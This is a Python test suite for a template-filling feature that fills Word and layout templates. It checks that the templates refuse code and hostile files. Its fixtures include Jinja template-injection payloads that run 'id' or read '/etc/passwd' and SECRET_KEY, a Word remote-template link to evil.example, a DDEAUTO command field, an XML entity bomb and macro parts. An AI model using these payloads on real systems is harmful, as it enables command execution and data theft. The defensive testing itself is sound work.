"""What a template may say, and that it can do nothing (TRUST 1.3.2): no database needed."""

import re
import time

import pytest

from maizi.fields.rules.layouts import fill_layout, parse_layout
from maizi.fields.rules.packages import MOST_BYTES, open_package
from maizi.fields.rules.pictures import Picture
from maizi.fields.rules.placeholders import Names
from maizi.fields.rules.word import check_word, fill_word, marks_in_word
from maizi.kernel.errors import Refused
from tests.fields.papers import OFFICE, RELS, W, paragraph, row, table, texts_of, word

pytestmark = pytest.mark.once
VALUES = {
    "客户名称": "华宁 <有限> & 公司", "备注": "第一行\n第二行",
    "联系人": [{"姓名": "王芳", "手机": "138"}, {"姓名": "李强", "手机": "139"}],
}  # fmt: skip
NAMES = Names.of(VALUES)

# What is tried against templates that evaluate; here each is an unknown name or a loose bracket.
ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ 客户名称.__class__ }}",
    "{{ 联系人.__init__.__globals__ }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].system('id') }}",
    "{{ request.application.__globals__ }}",
    "{{ config.SECRET_KEY }}",
    "{{ 客户名称|attr('__class__') }}",
    "{{ 7*7 }}",
    "{{ range(10**9)|list }}",
    "{{ 'a'*10**9 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    "{%tr for c in 联系人 %}",
    "{# comment #}{{ 客户名称 }}",
    "{{ 客户名称",
    "客户名称 }}",
    "{{{{ 客户名称 }}}}",
    "{{ 客户名称.format }}",
    "{{ '{0.__class__}'.format(1) }}",
    "{{ #read(\"/etc/passwd\") }}",
    "{{ 联系人 }}",
]  # fmt: skip


@pytest.mark.parametrize("text", ESCAPES)
def test_nothing_but_known_names_comes_in(text):
    with pytest.raises(Refused) as told:
        check_word(word(paragraph(text)), NAMES)
    assert "正文第 1 段" in str(told.value) and told.value.field == "file"
    with pytest.raises(Refused) as told:
        parse_layout(f"# 表\n{text}", NAMES)
    assert "第 2 行" in str(told.value)


@pytest.mark.parametrize("text", ESCAPES)
def test_a_value_that_looks_like_a_template_stays_a_text(text):
    """The customer types it into his name; it is printed as he typed it."""
    made = texts_of(fill_word(word(paragraph("甲方：{{客户名称}}")), {"客户名称": text}, {}))
    assert "{{客户名称}}" not in made.replace(text, "") and "uid=" not in made
    blocks = fill_layout(parse_layout("# 表\n{{客户名称}}", NAMES), {"客户名称": text})
    assert blocks[-1]["text"] == text


@pytest.mark.parametrize(
    ("block", "place"),
    [
        (paragraph("甲", "{{客户", "名}}"), "正文第 1 段：没有“客户名”这个占位，是不是“客户名称”"),
        (table(row("甲", "乙"), row("a", "{{电话}}")), "表格 1 第 2 行第 2 格：没有“电话”"),
        (paragraph("{{联系人.姓名}}"), "只能写在表格的一行里"),
        (table(row("{{联系人.邮编}}")), "表格 1 第 1 行第 1 格：没有“联系人.邮编”"),
    ],
)  # fmt: skip
def test_an_unknown_place_is_refused_with_where_it_stands(block, place):
    with pytest.raises(Refused) as told:
        check_word(word(block), NAMES)
    assert place in str(told.value)


def test_places_in_header_and_footer_are_checked_too():
    footer = word(
        paragraph("x"), more={"word/footer1.xml": f"<w:ftr {W}>{paragraph('{{谁}}')}</w:ftr>"}
    )
    with pytest.raises(Refused, match="页脚：没有“谁”"):
        check_word(footer, NAMES)


def test_two_lists_in_one_row_are_refused():
    names = Names.of({**VALUES, "地址": [{"街道": "x"}]})
    with pytest.raises(Refused, match="一行里只能用一种明细"):
        check_word(word(table(row("{{联系人.姓名}}", "{{地址.街道}}"))), names)


def test_word_is_filled_wherever_its_runs_are_cut():
    content = word(
        paragraph("甲方：{{", "客户", "名称 }}（", "盖章）{{备注}}"),
        table(row("姓名", "手机"), row("{{联系人.姓名}}", "电话 {{联系人.手机}} / {{客户名称}}")),
    )
    check_word(content, NAMES)
    made = texts_of(fill_word(content, VALUES, {}))
    assert "{{" not in made and "华宁 &lt;有限&gt; &amp; 公司" in made
    assert made.index("甲方：") < made.index("华宁") < made.index("（") < made.index("盖章）")
    assert "第一行</w:t><w:br/><w:t" in made and made.count("<w:tr>") == 3
    assert made.index("王芳") < made.index("138") < made.index("李强") < made.index("139")


def test_a_list_without_lines_leaves_one_empty_row():
    made = texts_of(fill_word(word(table(row("{{联系人.姓名}}"))), {"联系人": []}, {}))
    assert made.count("<w:tr>") == 1 and "{{" not in made


LINK = f'<Relationships xmlns="{RELS}"><Relationship Id="r" TargetMode="External" '
OUTWARD = (
    f'{LINK}Type="{OFFICE}/attachedTemplate" Target="http://evil.example/x.dotm"/></Relationships>'
)
FRIENDLY = f'{LINK}Type="{OFFICE}/hyperlink" Target="https://maizi.example"/></Relationships>'
BOMB = '<!DOCTYPE a [<!ENTITY x "xxxxxxxxxx">]><a>&x;</a>'
DDE = f"<w:document {W}><w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p></w:document>"


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"PK\x03\x04 broken", "打不开"),
        (word(more={"word/vbaProject.bin": "x"}), "宏"),
        (word(more={"word/embeddings/oleObject1.bin": "x"}), "嵌入"),
        (word(more={"word/_rels/document.xml.rels": OUTWARD}), "外部文件"),
        (word(more={"word/document.xml": BOMB}), "损坏"),
        (word(more={"word/styles.xml": BOMB}), "损坏"),
        (word(more={"word/document.xml": DDE}), "DDEAUTO"),
        (word(more={"word/document.xml": "<w:document"}), "损坏"),
        (word(paragraph("x" * 5 * 1024 * 1024)), "过长"),
        (b"PK\x03\x04" + b"0" * MOST_BYTES, "最大 5 MB"),
        (word(more={f"word/m{n}.xml": "<a/>" for n in range(500)}), "过大"),
    ],
)
def test_a_word_file_that_acts_or_is_too_big_is_refused(content, words):
    with pytest.raises(Refused, match=words):
        check_word(content, NAMES)


def test_a_link_to_a_page_is_fine():
    check_word(word(paragraph("x"), more={"word/_rels/document.xml.rels": FRIENDLY}), NAMES)


def test_a_layout_becomes_blocks():
    facts = "| 名 | {{客户名称}} |\n| 注 | {{备注}} |"
    ends = "[[联系人：姓名，手机]]\n[[签章]]\n[[二维码]]\n[[分页]]\n完"
    text = f"# 表 {{{{客户名称}}}}\n\n## 一\n{facts}\n{ends}"
    blocks = fill_layout(parse_layout(text, NAMES), VALUES)
    assert [b["kind"] for b in blocks] == [
        "title", "section", "grid", "table", "end", "break", "text",
    ]  # fmt: skip
    assert blocks[2]["rows"][1] == ["注", "第一行\n第二行"]
    assert blocks[3]["rows"] == [["王芳", "138"], ["李强", "139"]]
    assert blocks[4] == {"kind": "end", "seal": True, "code": True}


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "空的"),
        ("# 表\n[[合同]]", "第 2 行：没有“合同”"),
        ("# 表\n[[联系人：姓名，邮编]]", "“联系人”的列可以写：姓名、手机"),
        ("# 表\n[[联系人]]", "列可以写"),
        ("|" + "a|" * 9, "最多 8 格"),
        ("# 表\n" * 501, "最多 500 行"),
        ("x" * 1001, "每行最多 1000 个字"),
    ],
)
def test_a_layout_that_is_wrong_is_refused_with_its_line(text, words):
    with pytest.raises(Refused, match=words):
        parse_layout(text, NAMES)


def test_many_faults_are_told_at_once():
    with pytest.raises(Refused) as told:
        parse_layout("# 表\n" + "{{谁}}\n" * 20, NAMES)
    assert "20 处问题" in str(told.value) and str(told.value).count("没有“谁”") == 8


def test_a_hostile_text_takes_no_time():
    """No nested quantifier, no evaluation: a megabyte of brackets is read in a moment."""
    began = time.process_time()
    for text in ("{{" * 200_000, "{{" + "a" * 500_000, "}" * 500_000, "{{ }}" * 100_000):
        with pytest.raises(Refused):
            check_word(word(paragraph(text)), NAMES)
    assert time.process_time() - began < 10


CODE_PICTURE = Picture(b"\x89PNG code", "png", 25, "二维码：https://crm.example.cn/<1>")
SEAL_PICTURE = Picture(b"\xff\xd8 seal", "jpeg", 40, "公司印章")


def test_a_code_and_a_seal_stand_where_word_says_so():
    given = word(paragraph("请扫 [[二", "维码]] 盖章：[[签章]]，再扫 [[二维码]]{{备注}}"))
    pictures = {"二维码": CODE_PICTURE, "签章": SEAL_PICTURE}
    made = fill_word(given, {"备注": "[[签章]]"}, pictures)
    text, parts = texts_of(made), open_package(made)
    assert re.sub("<[^>]+>", "", text) == "请扫  盖章：，再扫 [[签章]]"
    assert text.count("<w:drawing") == 3 and text.count('r:embed="maizi0"') == 1
    assert text.index('r:embed="maizi1"') < text.index('r:embed="maizi0"')
    assert "https://crm.example.cn/&lt;1&gt;" in text
    assert parts["word/media/maizi1.png"] == CODE_PICTURE.content
    assert parts["word/media/maizi0.jpeg"] == SEAL_PICTURE.content
    links = parts["word/_rels/document.xml.rels"].decode()
    assert links.count("<Relationship ") == 2 and 'Target="media/maizi1.png"' in links
    types = parts["[Content_Types].xml"].decode()
    assert 'Extension="png"' in types and 'Extension="jpeg"' in types


def test_words_stand_where_there_is_no_seal_and_marks_are_found():
    given = word(paragraph("[[签章]]"), paragraph("[[ 二维码 ]]"))
    assert marks_in_word(given) == {"签章", "二维码"}
    made = fill_word(given, {}, {"二维码": CODE_PICTURE, "签章": "（盖章处）"})
    assert "（盖章处）" in texts_of(made) and texts_of(made).count("<w:drawing") == 1


def test_a_mark_nobody_knows_is_refused_with_where_it_stands():
    with pytest.raises(Refused, match="正文第 2 段：没有“公章”"):
        check_word(word(paragraph("[[签章]]"), paragraph("[[公章]]")), NAMES)


def test_a_narrow_page_breaks_words_before_dates():
    """What can be broken gives way: a date keeps its width beside long sentences."""
    lines, names = (
        "[[单：说明，备注，日期]]",
        Names.of({"单": [{"说明": "", "备注": "", "日期": ""}]}),
    )
    row = {"说明": "很长的一句话" * 9, "备注": "也很长的一句话" * 9, "日期": "2026-12-01"}
    (table,) = fill_layout(parse_layout(lines, names), {"单": [row]})
    told, note, day = table["shares"]
    assert day == len("2026-12-01") + 3 and told + note + day <= 90 and abs(told - note) <= 1
    (table,) = fill_layout(parse_layout(lines, names), {"单": [row | {"说明": "短", "备注": ""}]})
    assert table["shares"] == [9, 9, 13], "wide enough: as their longest texts"
